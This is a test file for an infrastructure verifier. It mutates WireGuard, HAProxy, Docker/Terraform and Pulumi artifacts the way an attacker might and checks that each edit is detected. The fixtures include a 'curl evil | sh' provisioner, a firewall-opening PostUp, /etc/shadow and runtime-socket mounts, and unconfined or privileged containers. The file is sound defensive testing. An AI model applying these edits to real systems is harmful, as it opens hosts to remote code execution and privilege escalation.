import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Report } from "../../policies/verifier/index.js";
import { runCli } from "../helpers/cli.js";
import { planOnce } from "../helpers/plan-once.js";
import { copyOut, editJson, editText, pulumiContainer, tfContainer, verifyDirInProcess } from "./support.js";

/*
 * An attacker's edits of the rendered artifacts, class by class (issue 12: 5 WireGuard, 6 HAProxy,
 * 7 Docker, 10 secrets, 13 malformed artifacts). Each must end in exit 1 with a finding or a
 * mandatory guardrail that names the artifact and a line, and that line must hold the edit
 * (`marker`). The clean plan has none of them.
 */

const planned = await planOnce();

const TF_CLOUD = "cdktf/stacks/cloud/cdk.tf.json";
const TF_EDGE = "cdktf/stacks/edge/cdk.tf.json";
const TF_SECRETS = "cdktf/stacks/secrets/cdk.tf.json";
const PU_CLOUD = "pulumi/cloud.json";
const WG_EDGE = "hosts/edge/wireguard/wg-edge.conf";
const WG_CLOUD = "hosts/cloud/wireguard/wg-cloud.conf";
const HAP_INGRESS = "hosts/cloud/ingress/haproxy.cfg";
const HAP_EDGE = "hosts/edge/haproxy/haproxy.cfg";
/** Made-up keys in WireGuard's format: never a real one. */
const KEY_A = "aGVsbG8gdGhpcyBpcyBub3QgYSByZWFsIGtleSEhISE=";
const KEY_B = "c2Vjb25kIGZha2Uga2V5IGZvciBhIHRlc3QgcGVlciE=";

type Json = any; // eslint-disable-line @typescript-eslint/no-explicit-any
interface Mutation {
  readonly cls: "5 wireguard" | "6 haproxy" | "7 docker" | "10 secrets" | "13 malformed";
  readonly name: string;
  readonly mutate: (dir: string) => void;
  readonly artifact: string;
  /** Over "kind-or-rule subject message". */
  readonly expected: RegExp;
  /** Text the reported line holds in the mutated artifact. */
  readonly marker: string;
}

const addLabel = (c: Json, label: string, value: string) => c.labels.push({ label, value });

const MUTATIONS: readonly Mutation[] = [
  // ---- 5. WireGuard as wg reads it ----
  { cls: "5 wireguard", name: "an extra [Peer] for a third party", mutate: (d) => editText(d, WG_EDGE, (t) => `${t}\n[Peer]\nPublicKey = ${KEY_A}\nAllowedIPs = 10.77.0.3/32\n`), artifact: WG_EDGE, expected: /wireguard-peers .*extra peer/, marker: "[Peer]" },
  { cls: "5 wireguard", name: "a later [Peer] claiming the cloud's tunnel address (the last peer wins)", mutate: (d) => editText(d, WG_EDGE, (t) => `${t}\n[Peer]\nPublicKey = ${KEY_B}\nAllowedIPs = 10.77.0.2/32\n`), artifact: WG_EDGE, expected: /wireguard-peers .*claim the same AllowedIPs prefix/, marker: "[Peer]" },
  { cls: "5 wireguard", name: "PostUp opening the firewall", mutate: (d) => editText(d, WG_CLOUD, (t) => t.replace("[Peer]", "PostUp = nft add rule inet filter input accept\n\n[Peer]")), artifact: WG_CLOUD, expected: /bad-artifact .*PostUp runs a command/, marker: "PostUp = nft" },
  { cls: "5 wireguard", name: "PreUp adding a route", mutate: (d) => editText(d, WG_EDGE, (t) => t.replace("MTU = 1380", "MTU = 1380\npreup = ip route add 172.20.0.0/16 dev %i")), artifact: WG_EDGE, expected: /bad-artifact .*preup runs a command/i, marker: "preup = ip route" },
  { cls: "5 wireguard", name: "a key wg does not know", mutate: (d) => editText(d, WG_EDGE, (t) => t.replace("MTU = 1380", "MTU = 1380\nAllowedIPs = 0.0.0.0/0")), artifact: WG_EDGE, expected: /bad-artifact .*AllowedIPs is not a key of \[Interface\]/, marker: "AllowedIPs = 0.0.0.0/0" },
  { cls: "5 wireguard", name: "Table = off (routes no longer wg-quick's)", mutate: (d) => editText(d, WG_CLOUD, (t) => t.replace("MTU = 1380", "MTU = 1380\nTable = off")), artifact: WG_CLOUD, expected: /bad-artifact .*Table = off/, marker: "Table = off" },
  { cls: "5 wireguard", name: "a wider AllowedIPs in lower case keys", mutate: (d) => editText(d, WG_EDGE, (t) => t.replace("AllowedIPs = 10.77.0.2/32, fd77::2/128", "allowedips = 10.77.0.2/32, fd77::2/128\nallowedips = 172.20.0.0/16")), artifact: WG_EDGE, expected: /wireguard-allowed-ips .*172\.20\.0\.0\/16/, marker: "allowedips = 10.77.0.2/32" },

  { cls: "5 wireguard", name: "a second WireGuard interface on the edge", mutate: (d) => { writeFileSync(join(d, "hosts/edge/wireguard/wg-x.conf"), `[Interface]\nAddress = 10.99.0.1/24\nListenPort = 51821\n\n[Peer]\nPublicKey = ${KEY_A}\nAllowedIPs = 0.0.0.0/0\n`); }, artifact: "hosts/edge/wireguard/wg-x.conf", expected: /bad-artifact .*second WireGuard interface/, marker: "[Interface]" },

  // ---- 6. HAProxy as haproxy parses it ----
  { cls: "6 haproxy", name: "an indented listen section relaying to the cloud's SSH", mutate: (d) => editText(d, HAP_EDGE, (t) => `${t}\n    listen relay\n        mode tcp\n        bind 203.0.113.10:2222\n        server s 10.77.0.2:22\n`), artifact: HAP_EDGE, expected: /unexpected-route edge-proxy => cloud : tcp\/22/, marker: "server s 10.77.0.2:22" },
  { cls: "6 haproxy", name: "an unknown SNI falls back to the app (default_backend)", mutate: (d) => editText(d, HAP_EDGE, (t) => t.replace("default_backend be_reject", "default_backend be_app")), artifact: HAP_EDGE, expected: /unexpected-route .*unknown name .*lands on backend be_app/, marker: "default_backend be_app" },
  { cls: "6 haproxy", name: "default_backend moved into defaults", mutate: (d) => editText(d, HAP_EDGE, (t) => t.replace("    default_backend be_reject\n", "").replace("defaults\n", "defaults\n    default_backend be_git\n")), artifact: HAP_EDGE, expected: /unexpected-route .*unknown name .*be_git/, marker: "default_backend be_git" },
  { cls: "6 haproxy", name: "use_backend ... unless: any Host but git reaches the frontend", mutate: (d) => editText(d, HAP_INGRESS, (t) => t.replace("use_backend be_frontend if host_app", "use_backend be_frontend unless host_git")), artifact: HAP_INGRESS, expected: /unexpected-route .*unknown name .*be_frontend/, marker: "unless host_git" },
  { cls: "6 haproxy", name: "a || in a condition: /api from any Host reaches the api", mutate: (d) => editText(d, HAP_INGRESS, (t) => t.replace("use_backend be_api if host_app path_api", "use_backend be_api if host_app path_api || path_api")), artifact: HAP_INGRESS, expected: /unexpected-route .*unknown name .*be_api/, marker: "|| path_api" },
  { cls: "6 haproxy", name: "a server pointing outside the platform", mutate: (d) => editText(d, HAP_EDGE, (t) => t.replace(/(backend be_blog\n\s+mode tcp\n\s+server ingress) 10\.77\.0\.2:443/, "$1 198.51.100.9:443")), artifact: HAP_EDGE, expected: /unexpected-route .*198\.51\.100\.9:443 resolves to no known peer/, marker: "198.51.100.9:443" },
  { cls: "6 haproxy", name: "http-request set-path (not modelled)", mutate: (d) => editText(d, HAP_INGRESS, (t) => t.replace("    http-request set-header X-Forwarded-Proto https", "    http-request set-header X-Forwarded-Proto https\n    http-request set-path /api%[path]")), artifact: HAP_INGRESS, expected: /bad-artifact .*http-request set-path is not modelled/, marker: "set-path" },
  { cls: "6 haproxy", name: "lua loaded in global", mutate: (d) => editText(d, HAP_EDGE, (t) => t.replace("    maxconn 4096", "    maxconn 4096\n    lua-load /etc/palisade/haproxy/route.lua")), artifact: HAP_EDGE, expected: /bad-artifact .*lua-load is not modelled/, marker: "lua-load" },
  { cls: "6 haproxy", name: "the Host header rewritten before routing", mutate: (d) => editText(d, HAP_INGRESS, (t) => t.replace("    http-request set-header X-Forwarded-Proto https", "    http-request set-header X-Forwarded-Proto https\n    http-request set-header Host app.example.com")), artifact: HAP_INGRESS, expected: /bad-artifact .*Host rewrites/, marker: "set-header Host" },

  // ---- 7. Docker as the engine applies it ----
  { cls: "7 docker", name: "SYS_ADMIN added to the api without a reason", mutate: (d) => editJson(d, TF_CLOUD, (j) => tfContainer(j, "cloud-api").capabilities.add.push("SYS_ADMIN")), artifact: TF_CLOUD, expected: /capability-reason cloud\/api .*dangerous capability SYS_ADMIN/, marker: '"capabilities"' },
  { cls: "7 docker", name: "cap_sys_ptrace spelt in lower case with the prefix", mutate: (d) => editJson(d, TF_CLOUD, (j) => tfContainer(j, "cloud-blog").capabilities.add.push("cap_sys_ptrace")), artifact: TF_CLOUD, expected: /capability-reason cloud\/blog .*SYS_PTRACE/, marker: '"capabilities"' },
  { cls: "7 docker", name: "ALL added back (even with a reason label)", mutate: (d) => editJson(d, TF_CLOUD, (j) => { const c = tfContainer(j, "cloud-gitea"); c.capabilities.add.push("ALL"); addLabel(c, "palisade.cap.ALL", "convenience"); }), artifact: TF_CLOUD, expected: /capability-reason cloud\/gitea .*adds ALL/, marker: '"capabilities"' },
  { cls: "7 docker", name: "seccomp unconfined", mutate: (d) => editJson(d, TF_CLOUD, (j) => tfContainer(j, "cloud-frontend").security_opts.push("seccomp=unconfined")), artifact: TF_CLOUD, expected: /unconfined cloud\/frontend .*seccomp=unconfined/, marker: '"security_opts"' },
  { cls: "7 docker", name: "apparmor:unconfined in the Pulumi capture", mutate: (d) => editJson(d, PU_CLOUD, (j) => pulumiContainer(j, "cloud-frontend").securityOpts.push("apparmor:unconfined")), artifact: PU_CLOUD, expected: /unconfined cloud\/frontend .*apparmor:unconfined/, marker: '"securityOpts"' },
  { cls: "7 docker", name: "no-new-privileges overridden later in the list", mutate: (d) => editJson(d, TF_CLOUD, (j) => tfContainer(j, "cloud-api").security_opts.push("no-new-privileges=false")), artifact: TF_CLOUD, expected: /no-new-privileges cloud\/api .*last entry wins/, marker: '"security_opts"' },
  { cls: "7 docker", name: "user 00 (uid 0)", mutate: (d) => editJson(d, TF_CLOUD, (j) => { tfContainer(j, "cloud-api").user = "00"; }), artifact: TF_CLOUD, expected: /non-root-user cloud\/api .*uid 0/, marker: '"user": "00"' },
  { cls: "7 docker", name: "user root:root", mutate: (d) => editJson(d, TF_CLOUD, (j) => { tfContainer(j, "cloud-blog").user = "root:root"; }), artifact: TF_CLOUD, expected: /non-root-user cloud\/blog/, marker: '"user": "root:root"' },
  { cls: "7 docker", name: "no user at all (the image's default)", mutate: (d) => editJson(d, TF_CLOUD, (j) => { delete tfContainer(j, "cloud-frontend").user; }), artifact: TF_CLOUD, expected: /non-root-user cloud\/frontend .*sets no user/, marker: '"container_cloud_frontend"' },
  { cls: "7 docker", name: "/etc/shadow mounted (under /etc)", mutate: (d) => editJson(d, TF_CLOUD, (j) => tfContainer(j, "cloud-api").mounts = [{ read_only: true, source: "/etc/../etc//shadow", target: "/x", type: "bind" }]), artifact: TF_CLOUD, expected: /sensitive-mount cloud\/api .*under \/etc/, marker: '"mounts"' },
  { cls: "7 docker", name: "containerd's socket mounted", mutate: (d) => editJson(d, TF_CLOUD, (j) => tfContainer(j, "cloud-blog").mounts.push({ read_only: false, source: "/srv/containerd.sock", target: "/run/c.sock", type: "bind" })), artifact: TF_CLOUD, expected: /sensitive-mount cloud\/blog .*runtime socket/, marker: '"mounts"' },
  { cls: "7 docker", name: "the whole secrets directory mounted", mutate: (d) => editJson(d, TF_EDGE, (j) => tfContainer(j, "edge-edge-mail").mounts.push({ read_only: true, source: "/etc/palisade/secrets/", target: "/s", type: "bind" })), artifact: TF_EDGE, expected: /sensitive-mount edge\/edge-mail .*secrets directory/, marker: '"mounts"' },
  { cls: "7 docker", name: "the tunnel's private key mounted into the DNS server", mutate: (d) => editJson(d, TF_EDGE, (j) => tfContainer(j, "edge-edge-dns").mounts.push({ read_only: true, source: "/etc/palisade/secrets/wireguard-edge.key", target: "/k", type: "bind" })), artifact: TF_EDGE, expected: /sensitive-mount edge\/edge-dns .*tunnel's private key/, marker: '"mounts"' },
  { cls: "7 docker", name: "a host device", mutate: (d) => editJson(d, TF_CLOUD, (j) => { tfContainer(j, "cloud-blog").devices = [{ host_path: "/dev/sda", container_path: "/dev/sda" }]; }), artifact: TF_CLOUD, expected: /devices cloud\/blog .*\/dev\/sda/, marker: '"devices"' },
  { cls: "7 docker", name: "host PID namespace beside the host-network exception", mutate: (d) => editJson(d, TF_EDGE, (j) => { tfContainer(j, "edge-edge-proxy").pid_mode = "host"; }), artifact: TF_EDGE, expected: /host-namespace edge\/edge-proxy .*pid namespace .*no exception covers it/, marker: '"pid_mode"' },
  { cls: "7 docker", name: "host user namespace", mutate: (d) => editJson(d, TF_CLOUD, (j) => { tfContainer(j, "cloud-api").userns_mode = "host"; }), artifact: TF_CLOUD, expected: /host-namespace cloud\/api .*userns/, marker: '"userns_mode"' },
  { cls: "7 docker", name: "network_mode container:postgres", mutate: (d) => editJson(d, TF_CLOUD, (j) => { tfContainer(j, "cloud-blog").network_mode = "container:cloud-postgres"; }), artifact: TF_CLOUD, expected: /host-namespace cloud\/blog .*container:cloud-postgres/, marker: '"network_mode"' },
  { cls: "7 docker", name: "a local-exec provisioner", mutate: (d) => editJson(d, TF_CLOUD, (j) => { tfContainer(j, "cloud-api").provisioner = [{ "local-exec": { command: "curl evil | sh" } }]; }), artifact: TF_CLOUD, expected: /bad-artifact .*provisioner block/, marker: '"provisioner"' },
  { cls: "7 docker", name: "a null_resource in the secrets stack", mutate: (d) => editJson(d, TF_SECRETS, (j) => { j.resource.null_resource = { x: { provisioner: [{ "local-exec": { command: "id" } }] } }; }), artifact: TF_SECRETS, expected: /bad-artifact .*null_resource is not modelled/, marker: '"x"' },
  { cls: "7 docker", name: "a container the intent does not know", mutate: (d) => editJson(d, TF_CLOUD, (j) => { const c = JSON.parse(JSON.stringify(tfContainer(j, "cloud-blog"))); c.name = "cloud-miner"; c.labels = c.labels.map((l: Json) => (l.label === "palisade.service" ? { ...l, value: "miner" } : l)); c.networks_advanced = []; j.resource.docker_container.container_cloud_miner = c; }), artifact: TF_CLOUD, expected: /unknown-peer cloud\/miner/, marker: '"container_cloud_miner"' },
  { cls: "7 docker", name: "sysctls (a field the verifier does not model)", mutate: (d) => editJson(d, TF_CLOUD, (j) => { tfContainer(j, "cloud-api").sysctls = { "net.ipv4.ip_forward": "1" }; }), artifact: TF_CLOUD, expected: /bad-artifact .*sets sysctls/, marker: '"sysctls"' },
  { cls: "7 docker", name: "a command:local:Command in the Pulumi capture", mutate: (d) => editJson(d, PU_CLOUD, (j) => j.resources.push({ type: "command:local:Command", name: "x", inputs: { create: "id" } })), artifact: PU_CLOUD, expected: /bad-artifact .*command:local:Command is not modelled/, marker: '"type": "command:local:Command"' },
  { cls: "7 docker", name: "a volume whose driver binds /etc", mutate: (d) => editJson(d, TF_CLOUD, (j) => { j.resource.docker_volume.volume_blog_content.driver_opts = { type: "none", o: "bind", device: "/etc" }; }), artifact: TF_CLOUD, expected: /bad-artifact .*driver_opts/, marker: '"driver_opts"' },
  { cls: "7 docker", name: "drift on a field the model does not read (dns, Pulumi only)", mutate: (d) => editJson(d, PU_CLOUD, (j) => { pulumiContainer(j, "cloud-api").dns = ["198.51.100.53"]; }), artifact: PU_CLOUD, expected: /engine-drift cloud container cloud-api .*other\.dns/, marker: '"dns"' },
  { cls: "7 docker", name: "drift inside a mount (bind propagation, Terraform only)", mutate: (d) => editJson(d, TF_CLOUD, (j) => { tfContainer(j, "cloud-ingress").mounts[0].bind_options = { propagation: "rshared" }; }), artifact: PU_CLOUD, expected: /engine-drift cloud container cloud-ingress .*mounts differs/, marker: '"mounts"' },

  // ---- 10. Secrets anywhere ----
  { cls: "10 secrets", name: "a password in a database URL in a container's env", mutate: (d) => editJson(d, TF_CLOUD, (j) => tfContainer(j, "cloud-api").env.push("DATABASE_URL=postgres://app:Tr0ub4dor3x@postgres:5432/palisade")), artifact: TF_CLOUD, expected: /secret-material .*password in a URL/, marker: "DATABASE_URL" },
  { cls: "10 secrets", name: "a private key inline in PostUp", mutate: (d) => editText(d, WG_EDGE, (t) => t.replace(/PostUp = .*/, `PostUp = wg set %i private-key <(echo ${KEY_A})`)), artifact: WG_EDGE, expected: /secret-material .*WireGuard key/, marker: "PostUp = wg set %i private-key <(echo" },
  { cls: "10 secrets", name: "a PresharedKey in a [Peer]", mutate: (d) => editText(d, WG_CLOUD, (t) => t.replace("PersistentKeepalive = 25", `PersistentKeepalive = 25\nPresharedKey = ${KEY_B}`)), artifact: WG_CLOUD, expected: /secret-material .*WireGuard key/, marker: "PresharedKey" },
  { cls: "10 secrets", name: "a GitHub token in the renewal script", mutate: (d) => editText(d, "hosts/cloud/acme/renew.sh", (t) => `${t}# ghp_${"A1b2C3d4E5".repeat(4)}\n`), artifact: "hosts/cloud/acme/renew.sh", expected: /secret-material .*token/, marker: "ghp_" },
  { cls: "10 secrets", name: "a bearer token in the deploy hook", mutate: (d) => editText(d, "hosts/cloud/acme/deploy-hook.sh", (t) => `${t}curl -H "Authorization: Bearer abcdEFGH1234ijklMNOP5678" https://example.com\n`), artifact: "hosts/cloud/acme/deploy-hook.sh", expected: /secret-material .*HTTP header/, marker: "Authorization: Bearer" },
  { cls: "10 secrets", name: "a JWT in the OpenBao config", mutate: (d) => editText(d, "hosts/cloud/openbao/config.hcl", (t) => `${t}\n# eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJlc2lnbmF0dXJl\n`), artifact: "hosts/cloud/openbao/config.hcl", expected: /secret-material .*JSON web token/, marker: "eyJhbGci" },
  { cls: "10 secrets", name: "a PEM key embedded in a JSON string (a label)", mutate: (d) => editJson(d, TF_CLOUD, (j) => addLabel(tfContainer(j, "cloud-api"), "note", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----")), artifact: TF_CLOUD, expected: /secret-material .*PEM private key/, marker: "BEGIN OPENSSH PRIVATE KEY" },
  { cls: "10 secrets", name: "a Vault token in an env entry", mutate: (d) => editJson(d, TF_CLOUD, (j) => tfContainer(j, "cloud-api").env.push(`BAO_TOKEN_FILE_CONTENT=hvs.${"CAESIJ1k2l3m4n5".repeat(2)}`)), artifact: TF_CLOUD, expected: /secret-material .*(token|password)/, marker: "hvs." },

  // ---- 13. Malformed artifacts ----
  { cls: "13 malformed", name: "a container network without ipv4_address", mutate: (d) => editJson(d, TF_CLOUD, (j) => { delete tfContainer(j, "cloud-api").networks_advanced[0].ipv4_address; }), artifact: TF_CLOUD, expected: /bad-artifact .*without an ipv4_address/, marker: '"name": "${docker_network' },
  { cls: "13 malformed", name: "cdk.tf.json with an unbalanced brace", mutate: (d) => editText(d, TF_CLOUD, (t) => t.replace('"memory": 256,', '"memory": 256 },')), artifact: TF_CLOUD, expected: /bad-artifact .*cannot read.*line \d+/, marker: "" },
  { cls: "13 malformed", name: "cdk.tf.json with a missing comma", mutate: (d) => editText(d, TF_CLOUD, (t) => t.replace('"memory": 256,', '"memory": 256')), artifact: TF_CLOUD, expected: /bad-artifact .*cannot read.*expected ',' or '\}'/, marker: '"mounts"' },
  { cls: "13 malformed", name: "a Pulumi capture with a trailing comma", mutate: (d) => editText(d, PU_CLOUD, (t) => t.replace(/"restart": "unless-stopped"/, '"restart": "unless-stopped",')), artifact: PU_CLOUD, expected: /bad-artifact .*cannot read/, marker: '"restart": "unless-stopped",' },
  { cls: "13 malformed", name: "a wrong type (internal: \"yes\")", mutate: (d) => editJson(d, TF_CLOUD, (j) => { (Object.values(j.resource.docker_network) as { internal?: unknown }[]).find((n) => n.internal === true)!.internal = "yes"; }), artifact: TF_CLOUD, expected: /bad-artifact .*internal is "yes" \(string\); expected a boolean/, marker: '"internal": "yes"' },
  { cls: "13 malformed", name: "a wrong type (memory: \"lots\")", mutate: (d) => editJson(d, PU_CLOUD, (j) => { pulumiContainer(j, "cloud-api").memory = "lots"; }), artifact: PU_CLOUD, expected: /bad-artifact .*memory is "lots"/, marker: '"memory": "lots"' },
  { cls: "13 malformed", name: "an unbalanced brace in the edge proxy's condition", mutate: (d) => editText(d, HAP_EDGE, (t) => t.replace("use_backend be_app if { req.ssl_sni -i app.example.com }", "use_backend be_app if { req.ssl_sni -i app.example.com")), artifact: HAP_EDGE, expected: /bad-artifact .*unbalanced/, marker: "use_backend be_app if {" },
  { cls: "13 malformed", name: "a WireGuard line that is not Key = value", mutate: (d) => editText(d, WG_CLOUD, (t) => t.replace("MTU = 1380", "MTU = 1380\nListenPort 51820")), artifact: WG_CLOUD, expected: /bad-artifact .*not a Key = value line/, marker: "ListenPort 51820" },
  { cls: "13 malformed", name: "failover.json that is not JSON", mutate: (d) => editText(d, "hosts/cloud/failover/failover.json", (t) => t.replace(/\{/, "{{")), artifact: "hosts/cloud/failover/failover.json", expected: /bad-artifact .*failover\.json/, marker: "{{" },
];

function located(r: Report): { line: string; artifact?: string; at?: number }[] {
  return [
    ...r.findings.filter((f) => f.severity === "violation").map((f) => ({ line: `${f.kind} ${f.subject} ${f.message}`, artifact: f.artifact, at: f.line })),
    ...r.guardrails.filter((g) => g.level === "mandatory").map((g) => ({ line: `${g.rule} ${g.subject} ${g.message}`, artifact: g.artifact, at: g.line })),
  ];
}

const baseline = located(verifyDirInProcess(planned.dir));

describe("an attacker's edits of the daemons' and engines' artifacts (issue 12 classes 5, 6, 7, 10, 13)", () => {
  it("GIVEN the good plan WHEN verified THEN nothing is found (so each mutation's finding is its own)", () => {
    expect(baseline.map((b) => b.line)).toEqual([]);
  });

  it.each(MUTATIONS.map((m) => [`${m.cls}: ${m.name}`, m] as const))("GIVEN %s WHEN palisade verify runs THEN it exits 1 with a finding naming the artifact and the line", async (_n, m) => {
    const dir = copyOut(planned.dir, "mut-daemons");
    m.mutate(dir);
    const cli = await runCli(["verify", "--out", dir]);
    expect(cli.stderr).not.toMatch(/internal error|\n\s+at /);
    expect(cli.code).toBe(1);
    // The report the CLI wrote is the evidence: read it rather than verify twice.
    const all = located(JSON.parse(readFileSync(join(dir, "report", "report.json"), "utf8")) as Report);
    const found = all.filter((f) => m.expected.test(f.line));
    expect(found.length, `expected ${m.expected} among:\n${all.map((f) => `${f.artifact}:${f.at} ${f.line}`).join("\n")}`).toBeGreaterThan(0);
    const text = readFileSync(join(dir, m.artifact), "utf8").split("\n");
    const named = found.filter((f) => f.artifact === m.artifact && f.at !== undefined && (m.marker === "" || (text[f.at - 1] ?? "").includes(m.marker)));
    expect(named.length, `a finding must name ${m.artifact} and a line holding ${JSON.stringify(m.marker)}; got ${found.map((f) => `${f.artifact}:${f.at} (${JSON.stringify(text[(f.at ?? 0) - 1])})`).join(", ")}`).toBeGreaterThan(0);
  });

  it.each(["5 wireguard", "6 haproxy", "7 docker", "10 secrets", "13 malformed"])("GIVEN class %s WHEN the table is counted THEN it has at least three mutations", (cls) => {
    expect(MUTATIONS.filter((m) => m.cls === cls).length).toBeGreaterThanOrEqual(3);
  });
});
